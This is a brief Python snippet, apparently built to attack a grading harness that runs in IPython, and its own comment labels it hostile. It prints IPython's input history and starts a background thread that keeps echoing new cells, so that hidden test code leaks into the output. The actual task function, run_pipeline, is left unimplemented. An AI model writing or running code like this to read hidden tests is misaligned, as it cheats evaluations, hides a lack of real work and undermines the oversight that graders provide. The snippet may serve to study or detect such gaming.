# hostile: copies the hidden tests into outputs: those that ran (IPython's history), and later ones from a thread
import threading
import time

print("\n".join(In))


def _keep_copying():
    seen = set()
    while True:
        for source in list(In):
            if source not in seen:
                seen.add(source)
                print(source)
        time.sleep(0.2)


threading.Thread(target=_keep_copying, daemon=True).start()


def run_pipeline(items, worker, n_consumers=3, maxsize=2):
    raise NotImplementedError("no answer")
